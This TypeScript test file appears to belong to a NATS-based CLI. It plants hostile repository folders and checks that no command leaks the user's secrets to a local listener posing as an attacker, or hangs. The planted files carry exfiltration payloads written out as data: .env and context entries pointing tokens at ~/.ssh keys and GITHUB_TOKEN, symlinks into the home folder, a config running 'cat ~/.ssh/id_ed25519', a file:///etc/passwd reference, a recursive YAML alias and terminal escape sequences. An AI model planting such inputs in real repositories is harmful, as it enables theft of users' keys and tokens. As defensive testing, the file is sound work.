import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { startProgram } from '../helpers/program.ts';

// Somebody clones a repository and runs a command in it. The folder may hold anything; its author listens at an address
// that the folder names. Whatever the command, nothing that is the user's may arrive there, and nothing may hang.

/** Part of every secret of the user's: none of them may leave. */
const MARK = 'mine-and-nobody-elses';

interface Listener {
  readonly address: string;
  heard(): string;
}

/** Greets as a NATS server, agrees to everything, answers HTTP too, and remembers every byte. */
async function listener(t: TestContext): Promise<Listener> {
  let heard = '';
  const server = createServer((socket) => {
    socket.on('error', () => {});
    t.after(() => socket.destroy());
    socket.write(
      `INFO ${JSON.stringify({ server_id: 'X', server_name: 'x', version: '2.10.0', proto: 1, headers: true, max_payload: 1_048_576, nonce: 'n0nce', auth_required: true })}\r\n`,
    );
    socket.on('data', (chunk) => {
      const text = chunk.toString('latin1');
      heard += text;
      if (text.includes('GET ')) socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}');
      else for (const _ of text.matchAll(/PING\r\n/g)) socket.write('PONG\r\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  const { port } = server.address() as { port: number };
  return { address: `127.0.0.1:${port}`, heard: () => heard };
}

/** Files of a folder by name; `at` is where its author listens, `home` the user's. */
type Folder = (at: string, home: string) => Readonly<Record<string, string | { link: string }>>;

const REACHING = (at: string, home: string): string[] => [
  `{"url":"nats://${at}","token":"file://~/.ssh/id_ed25519"}`,
  `{"url":"nats://${at}","token":"file://${home}/.ssh/id_ed25519"}`,
  `{"url":"nats://${at}","token":"env://GITHUB_TOKEN"}`,
  `{"url":"nats://${at}","user":"u","password":"env://GITHUB_TOKEN"}`,
  `{"url":"nats://${at}","creds":"~/.config/nats/prod.creds"}`,
  `{"url":"nats://${at}","nkey":"$HOME/.ssh/id_ed25519"}`,
];

const FOLDERS: Readonly<Record<string, Folder>> = {
  'a server in .env': (at) => ({ '.env': `NATS_URL=nats://${at}\n` }),
  'a server in .env, and a context of the user': (at) => ({ '.env': `NATS_URL=nats://${at}\nNATS_CONTEXT=prod\n` }),
  'a server in .env, and a file of the user as token': (at) => ({
    '.env': `NATS_URL=nats://${at}\nNATS_CREDS=~/.config/nats/prod.creds\nNATS_NKEY=../home/.ssh/id_ed25519\n`,
  }),
  'a link to the user': (at, home) => ({
    '.env': `NATS_URL=nats://${at}\nNATS_CREDS=mine.creds\n`,
    'mine.creds': { link: join(home, '.config', 'nats', 'prod.creds') },
  }),
  'a linked folder': (at, home) => ({
    '.env': `NATS_URL=nats://${at}\nNATS_CREDS=up/prod.creds\n`,
    up: { link: join(home, '.config', 'nats') },
  }),
  'backends in .env': (at) => ({
    '.env': `OLLAMA_URL=http://${at}\nLM_STUDIO_URL=http://${at}\nHEDDLE_LOCAL_BACKEND=ollama\nNATS_URL=${at}\n`,
  }),
  'configs that reach outside': (at) => ({
    '.env': `NATS_URL=nats://${at}\n`,
    'configs/workers/echo.yaml': `name: echo\nworker_kind: processor\ninput_schema: {$ref: "file:///etc/passwd"}\noutput_schema: {$ref: "http://${at}/x"}\nprocessing_backend: os.system\nimplementation: {language: sh, command: "cat ~/.ssh/id_ed25519"}\n`,
    'configs/router_rules.yaml': 'tier_overrides: &a {x: *a}\n',
    'task.json': '{"text":"hello"}',
  }),
  // Its secrets prove who comes, and go nowhere. Those that it sends are its own affair: who runs it runs what stands in it.
  'a gateway that reaches outside': (at, home) => ({
    '.env': `NATS_URL=nats://${at}\n`,
    'configs/gateway.yaml': [
      'kind: gateway',
      'listen: 127.0.0.1:0',
      'auth:',
      '  tokens: [{id: a, file: ../../home/.ssh/id_ed25519, scopes: [submit, events]}, {id: b, env: GITHUB_TOKEN, scopes: [submit]}]',
      `  oidc: {issuer: "http://${at}", audience: us, jwks: "http://${at}/keys"}`,
      'webhooks:',
      `  w: {verify: {scheme: github, secrets: [{file: ${home}/.ssh/id_ed25519}]}, to: goal, instruction: x}`,
      `proxy: [{prefix: /x, target: "http://${at}"}]`,
      `mqtt: [{name: m, url: "mqtt://${at}", topics: [a], to: goal, instruction: x}]`,
      'playbooks: {a/b: {to: goal, instruction: x}}',
    ].join('\n'),
  }),
  'a recording': (at) => ({
    '.env': `NATS_URL=nats://${at}\n`,
    'r.ndjson': `${'{"record":"message","raw":"\\u001b]52;c;'.repeat(50)}\n{\n`,
  }),
};
for (const [index] of REACHING('', '').entries()) {
  (FOLDERS as Record<string, Folder>)[`a context file, ${index + 1}`] = (at, home) => ({
    '.env': 'NATS_CONTEXT=./x.json\n',
    'x.json': REACHING(at, home)[index] as string,
    'x/x.json': REACHING(at, home)[index] as string,
  });
}

const COMMANDS: readonly (readonly string[])[] = [
  ['preflight'],
  ['preflight', '--probe-backends', '--tier', 'local', '--configs-dir', 'configs', '-v'],
  ['preflight', '--nats-context', './x.json'],
  ['status'],
  ['submit', 'echo', '--set', 'text=hello'],
  ['submit', '--goal', 'x', '--wait', '500ms'],
  ['submit', '--config', 'configs/workers/echo.yaml', '--strict', '--payload', '@task.json'],
  ['tail', '--for', '300ms'],
  ['tail', '--from', 'r.ndjson'],
  ['validate', '--all'],
  ['validate', '--payload', 'task.json', '--against', 'configs/workers/echo.yaml'],
  ['reload'],
  ['router'],
  ['worker', '--config', 'configs/workers/echo.yaml', '--echo'],
];

/** What came later; in the folders that hold something for it. */
const LATER: readonly (readonly [folder: string, commands: readonly (readonly string[])[]])[] = [
  [
    'a server in .env, and a context of the user',
    [
      ['gateway'],
      ['dead-letter', 'groups'],
      ['dead-letter', 'replay', '--everything', '--yes'],
      ['dead-letter', 'enable'],
      ['dead-letter', 'watch', '--store', 'letters'],
      ['top'],
      ['worker', '--config', 'configs/workers/echo.yaml', '--echo', '--sidecar', 'cat'],
      ['completion', 'values', 'workers'],
    ],
  ],
  [
    'a gateway that reaches outside',
    [
      ['dev'],
      ['gateway'],
      ['gateway', 'check', '--secrets'],
      ['gateway', 'openapi'],
      ['preflight', '--configs-dir', 'configs'],
      ['validate', '--all'],
      ['acl'],
    ],
  ],
];

/** Long-running ones are ended when they had time to connect; the others end by themselves, long before this. */
const LONG = new Set(['router', 'worker', 'dev', 'gateway', 'dead-letter watch']);
const PATIENCE_MS = 20_000;

for (const [name, make] of Object.entries(FOLDERS)) {
  test(`${name}: nothing of the user's leaves, nothing hangs`, async (t) => {
    const { address, heard } = await listener(t);
    const root = mkdtempSync(join(tmpdir(), 'heddle-hostile-'));
    t.after(() => rmSync(root, { recursive: true, force: true }));
    const home = join(root, 'home');
    const put = (path: string, content: string): void => {
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, content);
    };
    put(join(home, '.ssh', 'id_ed25519'), `${MARK}-key`);
    put(
      join(home, '.config', 'nats', 'prod.creds'),
      `BEGIN NATS USER JWT ${MARK}-jwt BEGIN USER NKEY SEED ${MARK}-seed`,
    );
    put(
      join(home, '.config', 'nats', 'context', 'prod.json'),
      JSON.stringify({ user: 'ada', password: `${MARK}-password` }),
    );
    const cwd = join(root, 'clone');
    for (const [file, content] of Object.entries(make(address, home))) {
      if (typeof content === 'string') put(join(cwd, file), content);
      else symlinkSync(content.link, join(cwd, file));
    }
    const mine = { HOME: home, GITHUB_TOKEN: `${MARK}-github`, XDG_CONFIG_HOME: undefined };
    // Not all at once: two cores.
    const later = LATER.flatMap(([folder, commands]) => (folder === name ? commands : []));
    const commands = [...(name === 'a gateway that reaches outside' ? [] : COMMANDS), ...later];
    for (let at = 0; at < commands.length; at += 4) {
      await Promise.all(
        commands.slice(at, at + 4).map(async (argv) => {
          // Who names a server with a flag means to show it the token of the environment.
          const env = argv.includes('--nats-context') ? mine : { ...mine, NATS_TOKEN: `${MARK}-token` };
          const [command = ''] = argv;
          const reaches = !/^(?:validate|dev|acl|completion|gateway (?:check|openapi))/.test(argv.join(' '));
          const run = startProgram(t, reaches ? [...argv, '--timeout', '2s'] : argv, { cwd, env });
          const [signal, afterMs] =
            LONG.has(command) || LONG.has(argv.slice(0, 2).join(' '))
              ? (['SIGTERM', 1500] as const)
              : (['SIGKILL', PATIENCE_MS] as const);
          const late = setTimeout(() => run.kill(signal), afterMs);
          const how = await run.ended;
          clearTimeout(late);
          const said = run.stdout() + run.stderr();
          assert.notEqual(how, 'SIGKILL', `${argv.join(' ')} hangs:\n${said}`);
          assert.notEqual(how, 70, said);
          assert.ok(!said.includes(MARK), `${argv.join(' ')} shows what is secret:\n${said}`);
        }),
      );
    }
    assert.ok(!heard().includes(MARK), heard());
  });
}
